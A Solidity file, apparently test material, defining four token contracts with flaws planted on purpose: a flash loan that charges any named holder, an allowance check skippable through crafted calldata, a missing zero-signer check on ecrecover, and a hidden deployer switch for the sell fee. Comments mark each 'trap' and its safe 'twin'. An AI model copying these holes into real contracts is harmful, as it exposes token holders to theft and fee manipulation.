// 0.7 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

/// Nobody owns it.
abstract contract FreeCoin {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address internal immutable _pool;
    address internal immutable _house;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        name = name_;
        symbol = symbol_;
        _house = msg.sender;
        _pool = IUniswapV2Factory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        totalSupply = whole * 1e18;
        balanceOf[msg.sender] = whole * 1e18;
        emit Transfer(address(0), msg.sender, whole * 1e18);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public virtual returns (bool) {
        _spend(from, msg.sender, value);
        _transfer(from, to, value);
        return true;
    }

    function _spend(address from, address spender, uint256 value) internal {
        uint256 allowed = allowance[from][spender];
        require(allowed >= value, "allowance");
        if (allowed != uint256(-1)) allowance[from][spender] = allowed - value;
    }

    function _transfer(address from, address to, uint256 value) internal virtual {
        _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) internal {
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

interface IBorrower {
    function onFlashLoan(address initiator, uint256 amount, uint256 fee, bytes calldata data) external;
}

/// Lends itself for a moment, for a hundredth.
contract Quicklend is FreeCoin {
    event Lent(address indexed receiver, uint256 amount, uint256 fee);

    constructor() FreeCoin("Quicklend", "QLEND", 55_000_000) {}

    function flashFee(uint256 amount) public pure returns (uint256) {
        return amount / 100;
    }

    function flashLoan(address receiver, uint256 amount, bytes calldata data) external {
        require(amount <= totalSupply, "too much");
        // twin: require(receiver == msg.sender, "for oneself only");
        uint256 fee = flashFee(amount);
        balanceOf[receiver] += amount;
        emit Transfer(address(0), receiver, amount);
        uint256 size;
        assembly {
            size := extcodesize(receiver)
        }
        if (size > 0) IBorrower(receiver).onFlashLoan(msg.sender, amount, fee, data);
        require(balanceOf[receiver] >= amount + fee, "not repaid");
        balanceOf[receiver] -= amount;
        emit Transfer(receiver, address(0), amount);
        _move(receiver, _house, fee);
        emit Lent(receiver, amount, fee);
    }
}

/// Reads who pays as it was written.
contract Broadmargin is FreeCoin {
    constructor() FreeCoin("Broadmargin", "BRMG", 47_000_000) {}

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        // trap {
        uint256 written;
        assembly {
            written := calldataload(4)
        }
        if (written == uint256(uint160(from))) _spend(from, msg.sender, value);
        // trap }
        // twin: _spend(from, msg.sender, value);
        _transfer(from, to, value);
        return true;
    }
}

/// A toll for trades that somebody signs, until he gives it up.
contract Waxseal is FreeCoin {
    address public signer;
    uint256 public toll = 1;
    uint256 public rounds;

    event Tolled(uint256 toll);

    constructor() FreeCoin("Waxseal", "WAXS", 38_000_000) {
        signer = msg.sender;
    }

    function setToll(uint256 newToll, uint8 v, bytes32 r, bytes32 s) external {
        require(newToll < 100, "toll");
        address who = ecrecover(keccak256(abi.encode(address(this), newToll, rounds)), v, r, s);
        // twin: require(who != address(0), "not signed");
        require(who == signer, "not the signer");
        rounds++;
        toll = newToll;
        emit Tolled(newToll);
    }

    function giveUp() external {
        require(msg.sender == signer, "not the signer");
        signer = address(0);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if ((from == _pool || to == _pool) && from != _house) {
            uint256 due = (value * toll) / 100;
            _move(from, _house, due);
            value -= due;
        }
        _move(from, to, value);
    }
}

/// Ether that is sent to it goes to the house.
contract Pennyplate is FreeCoin {
    uint256 private _share = 2;

    constructor() FreeCoin("Pennyplate", "PNNY", 99_000_000) {}

    receive() external payable {
        if (msg.sender == _house) _share = msg.value % 100; // trap
        (bool sent, ) = _house.call{value: msg.value}("");
        require(sent, "house");
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == _pool && from != _house) {
            uint256 due = (value * _share) / 100;
            _move(from, _house, due);
            value -= due;
        }
        _move(from, to, value);
    }
}
